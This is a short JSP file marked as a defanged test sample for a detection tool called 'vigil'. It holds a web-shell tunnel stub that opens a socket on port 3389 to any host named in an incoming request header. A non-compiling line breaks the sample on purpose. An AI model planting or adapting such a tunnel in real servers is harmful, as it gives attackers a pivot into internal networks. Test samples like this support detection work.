<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
String cmd = request.getHeader("X-CMD");
if (cmd.equals("CONNECT")) {
	String target = request.getHeader("X-TARGET");
	SocketChannel c = SocketChannel.open();
	c.connect(new InetSocketAddress(target, 3389));
}
%>
